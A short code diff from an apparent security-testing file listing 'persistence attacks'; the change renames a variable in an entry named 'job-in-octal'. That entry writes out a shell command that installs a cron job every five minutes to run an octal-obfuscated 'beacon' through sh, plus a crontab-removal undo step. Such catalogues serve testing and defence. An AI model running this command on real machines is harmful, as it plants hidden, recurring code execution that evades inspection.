@@ -127,7 +127,7 @@ export const persistenceAttacks: readonly OracleAttack[] = [
   {
     ...{ name: 'job-in-octal', kind: 'name', harm: job, undo: 'crontab -u user -r' },
     steps: [
-      `printf '*/5 * * * * printf "${[...Buffer.from(beacon)].map((one) => `\\\\\\\\${one.toString(8).padStart(3, '0')}`).join('')}" | sh\\n' | crontab -`,
+      `printf '*/5 * * * * printf "${[...Buffer.from(beacon)].map((value) => `\\\\\\\\${value.toString(8).padStart(3, '0')}`).join('')}" | sh\\n' | crontab -`,
     ],
   },
   {
